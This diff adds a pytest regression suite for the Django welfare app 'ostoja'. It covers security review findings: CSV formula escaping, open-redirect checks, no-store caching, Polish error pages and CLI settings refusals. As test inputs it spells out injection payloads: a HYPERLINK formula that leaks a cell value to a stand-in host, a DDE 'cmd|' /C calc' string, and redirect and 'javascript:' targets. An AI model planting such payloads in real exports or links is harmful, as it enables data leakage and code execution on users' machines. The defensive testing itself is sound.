@@ -1,0 +1,188 @@
+"""Issue 20, Medium and Low findings (the REST of the insider review): bulk reads audited, CSV
+formula injection, API token life cycle, bad input, personal data out of URLs, open redirects,
+break-glass reasons, id probing, caching, role changes, audit tamper evidence, the CLI's
+settings, error pages. Each test is named after its finding and failed on the code before the
+fix. These tests build their own data (factories), not the Kielce demo.
+"""
+
+from __future__ import annotations
+
+import io
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+pytestmark = pytest.mark.django_db
+
+NRB = "61109010140000071219812874"
+FORMULA = '=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")'
+
+
+@pytest.fixture
+def head(demo_org: None) -> Any:
+    from django.contrib.auth import get_user_model
+
+    return get_user_model().objects.get(username="kierownik")
+
+
+@pytest.fixture
+def worker(demo_org: None) -> Any:
+    from django.contrib.auth import get_user_model
+
+    return get_user_model().objects.get(username="socjalny")
+
+
+def _draft(worker: Any, **names: str) -> Any:
+    from ostoja.decisions import services
+    from ostoja.decisions.tests.factories import make_ready_application
+
+    app = make_ready_application("zasilek_staly", **names)
+    return services.decision_draft_from_application(
+        application=app, actor=worker, account_number=NRB
+    )
+
+
+# ------------------------------------------------------------------ CSV formula injection
+
+
+def test_finding_m_csv_formula_escaped_in_decision_register(
+    worker: Any, client_for: Callable[[Any], Client]
+) -> None:
+    """A client named ``=HYPERLINK(…)`` is exported as text, not as a formula (OWASP CSV
+    injection); the same name in the XLSX export is a typed string cell and needs nothing."""
+    import csv
+
+    _draft(worker, first_name=FORMULA)
+    body = client_for(worker).get(reverse("decisions:export", args=["csv"])).content
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert any(cell.startswith("'" + FORMULA) for cell in cells), cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_finding_m_csv_formula_escaped_every_lead(lead: str) -> None:
+    from decimal import Decimal
+
+    from ostoja.core.csvsafe import safe_cell
+    from ostoja.payments.formats.zus import ZusRow, write_zus_csv
+
+    assert safe_cell(lead + "cmd|' /C calc'!A0") == "'" + lead + "cmd|' /C calc'!A0"
+    assert safe_cell("-12.50") == "-12.50" and safe_cell(7) == 7
+    row = ZusRow(1, lead + "SUM(1+1)*cmd", "85010112345", Decimal("100"), Decimal("9"))
+    assert ("'" + lead + "SUM") in write_zus_csv("2026-11", [row]).decode()
+
+
+# ------------------------------------------------------------------ next= (open redirect)
+
+
+@pytest.mark.parametrize(
+    "target", ["https://zly.example/", "//zly.example/x", "javascript:alert(1)", "http:/\\zly"]
+)
+def test_finding_l_next_only_same_origin(
+    target: str, worker: Any, client_for: Callable[[Any], Client]
+) -> None:
+    from ostoja.decisions.tests.factories import make_ready_application
+
+    from ostoja.cases.models import Calculation
+
+    app = make_ready_application("zasilek_staly")
+    # No calculation: the service refuses and the view sends the user back to ``next``.
+    Calculation.objects.filter(application=app).delete()
+    response = client_for(worker).post(
+        reverse("decisions:draft_from_application", args=[app.pk]),
+        {"account_number": NRB, "next": target},
+    )
+    assert response.status_code == 302
+    assert response["Location"].startswith("/"), response["Location"]
+    assert not response["Location"].startswith("//")
+
+
+# ------------------------------------------------------------------ Cache-Control
+
+
+def test_finding_l_no_store_on_pages_exports_and_api(
+    worker: Any, client_for: Callable[[Any], Client]
+) -> None:
+    from ostoja.org.services import api_token_create
+
+    client = client_for(worker)
+    for url in (
+        reverse("web:home"),
+        reverse("decisions:register"),
+        reverse("decisions:export", args=["csv"]),
+        reverse("decisions:export", args=["xlsx"]),
+        "/api/v1/persons",
+    ):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        assert "no-store" in response["Cache-Control"], url
+    token = api_token_create(user=worker)
+    response = Client(HTTP_AUTHORIZATION=f"Bearer {token}").get("/api/v1/decisions")
+    assert "no-store" in response["Cache-Control"]
+
+
+# ------------------------------------------------------------------ error pages
+
+
+def test_finding_l_error_pages_polish(settings: Any, worker: Any) -> None:
+    from django.test import RequestFactory
+
+    from ostoja.web import errors
+
+    settings.DEBUG = False
+    client = Client(raise_request_exception=False)
+    client.force_login(worker)
+    bad = client.get("/", HTTP_HOST="zly host")  # an invalid Host header → 400
+    assert bad.status_code == 400
+    assert "Błędne żądanie" in bad.content.decode()
+    request = RequestFactory().get("/")
+    page = errors.server_error(request)
+    assert page.status_code == 500 and "Błąd serwera" in page.content.decode()
+    assert '<html lang="pl">' in page.content.decode()
+
+
+# ------------------------------------------------------------------ CLI settings
+
+
+@pytest.mark.parametrize("command", ["migrate", "token", "shell", "flush"])
+def test_finding_l_cli_refuses_without_secret_key_or_database_url(command: str) -> None:
+    from ostoja.cli import prepare
+
+    env: dict[str, str] = {}
+    refused = prepare([command], env)
+    assert isinstance(refused, str) and "SECRET_KEY" in refused and "DATABASE_URL" in refused
+    assert "OSTOJA_DEV" not in env
+    refused = prepare([command], {"SECRET_KEY": "x" * 50})
+    assert isinstance(refused, str) and "DATABASE_URL" in refused
+
+
+def test_finding_l_cli_dev_needs_explicit_flag() -> None:
+    from ostoja.cli import prepare
+
+    env: dict[str, str] = {}
+    assert prepare(["--dev", "migrate"], env) == ["migrate"] and env["OSTOJA_DEV"] == "1"
+    assert prepare(["migrate"], {"OSTOJA_DEV": "1"}) == ["migrate"]
+    env = {}
+    assert prepare(["demo"], env) == ["demo"] and env["OSTOJA_DEV"] == "1"
+    env = {"SECRET_KEY": "x" * 50, "DATABASE_URL": "postgres://db/ostoja"}
+    assert prepare(["migrate"], env) == ["migrate"] and "OSTOJA_DEV" not in env
+
+
+def test_finding_l_cli_refusal_end_to_end(tmp_path: Any) -> None:
+    import os
+    import subprocess
+    import sys
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "PYTHONPATH": str(root)}
+    result = subprocess.run(
+        [sys.executable, "-m", "ostoja.cli", "migrate"],
+        env=env, cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False,
+    )  # fmt: skip
+    assert result.returncode == 2
+    assert "NIE zostało wykonane" in result.stderr
